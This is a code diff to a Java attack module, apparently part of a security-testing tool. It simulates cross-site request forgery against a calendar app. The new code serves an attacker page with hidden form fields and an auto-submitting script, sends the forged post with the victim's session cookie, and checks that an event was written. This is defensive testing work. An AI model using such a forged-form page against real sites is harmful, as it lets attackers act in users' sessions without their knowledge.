@@ -3,11 +3,19 @@ package dev.gatehouse.desktop.attack;
 import com.google.auto.service.AutoService;
 import dev.gatehouse.desktop.exchange.Draft;
 import dev.gatehouse.desktop.exchange.Hop;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
 import java.util.List;
+import java.util.stream.Collectors;
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Document;
+import org.jsoup.nodes.Element;
+import org.jsoup.nodes.FormElement;
 
 /** Makes the victim's browser post an event with the victim's own session. */
 @AutoService(Attack.class)
 public final class Csrf implements Attack {
+  private static final String PAGE = "/";
   private static final String TITLE = "Written by a page that Alice only looked at";
 
   @Override
@@ -30,21 +38,14 @@ public final class Csrf implements Attack {
     String cookie =
         BrowserSession.cookie(
             BrowserSession.signIn(target, BrowserSession.BROWSER, "Alice signs in."));
-    Draft form =
-        target
-            .with(
-                "POST",
-                Events.VICTIMS,
-                "application/x-www-form-urlencoded",
-                Events.namedInForm(TITLE))
-            .withHeader("Origin", BrowserSession.pageOfTheAttacker(target))
-            .withHeader("Sec-Fetch-Site", "same-site")
-            .withHeader("Sec-Fetch-Mode", "navigate")
-            .withHeader("Cookie", cookie);
-    target.send(
-        BrowserSession.BROWSER,
-        "Alice opens the attacker's page. Its form is sent, and the browser adds her cookie.",
-        form);
+    try (AttackerSite site = AttackerSite.open()) {
+      site.serve(PAGE, "text/html;charset=utf-8", page(target));
+      FormElement form = form(BrowserSession.open(target, site, PAGE));
+      target.send(
+          BrowserSession.BROWSER,
+          "The page's script sends its form, and the browser adds her cookie.",
+          BrowserSession.with(cookie, sent(form).withHeader("Origin", site.origin())));
+    }
     Hop events =
         target.send(
             BrowserSession.BROWSER,
@@ -52,5 +53,43 @@ public final class Csrf implements Attack {
             target.get(Events.VICTIMS).withHeader("Cookie", cookie));
     return target.end(
         Events.areIn(events, TITLE), "The attacker wrote an event into Alice's calendar.");
+  }
+
+  private static String page(Target target) {
+    Document page = Document.createShell(target.base().toString());
+    Element form =
+        page.body()
+            .appendElement("form")
+            .attr("method", "post")
+            .attr("action", target.base().resolve(Events.VICTIMS).toString());
+    Events.asForm(TITLE)
+        .forEach(
+            (name, value) ->
+                form.appendElement("input")
+                    .attr("type", "hidden")
+                    .attr("name", name)
+                    .attr("value", value));
+    page.body().appendElement("script").appendText("document.forms[0].submit()");
+    return page.outerHtml();
+  }
+
+  private static FormElement form(String page) {
+    return Jsoup.parse(page).forms().get(0);
+  }
+
+  /** As a browser sends a form (WHATWG HTML, form submission), from a page of the same site. */
+  private static Draft sent(FormElement form) {
+    String body =
+        form.formData().stream()
+            .map(field -> encoded(field.key()) + "=" + encoded(field.value()))
+            .collect(Collectors.joining("&"));
+    return new Draft("POST", form.attr("action"), List.of(), body.getBytes(StandardCharsets.UTF_8))
+        .withHeader("Content-Type", "application/x-www-form-urlencoded")
+        .withHeader("Sec-Fetch-Site", "same-site")
+        .withHeader("Sec-Fetch-Mode", "navigate");
+  }
+
+  private static String encoded(String text) {
+    return URLEncoder.encode(text, StandardCharsets.UTF_8);
   }
 }
